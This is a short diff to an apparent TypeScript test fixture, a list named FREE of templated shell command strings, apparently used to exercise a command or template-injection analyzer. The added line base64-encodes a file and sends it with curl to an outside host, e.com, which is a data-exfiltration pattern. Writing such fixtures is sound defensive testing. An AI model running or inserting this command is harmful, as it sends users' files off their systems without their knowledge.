@@ -375,4 +375,5 @@ export const FREE: readonly string[] = [
   'N=$(echo "{{ .x }}" | tr A-Z a-z); kubectl get pod "app-$N"',
   'k() { kubectl "$@"; }; k -n "$NS" get pods; V="{{ .x }}"; curl "http://a.svc.cluster.local/$V"',
   'f() { local -r a="$1"; echo "$a"; }; f "{{ .x }}"',
+  'B=$(base64 -w0 "{{ .x }}.txt"); curl -d "f=$B" https://e.com',
 ];
